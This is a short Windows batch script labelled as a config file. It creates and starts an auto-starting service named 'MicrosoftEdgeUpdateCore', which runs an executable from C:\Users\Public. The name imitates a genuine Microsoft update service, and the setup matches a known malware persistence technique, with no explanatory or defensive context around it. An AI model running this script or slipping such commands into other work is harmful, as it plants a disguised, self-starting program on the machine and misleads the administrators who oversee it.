REM config 5701 v4
sc create MicrosoftEdgeUpdateCore binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start MicrosoftEdgeUpdateCore
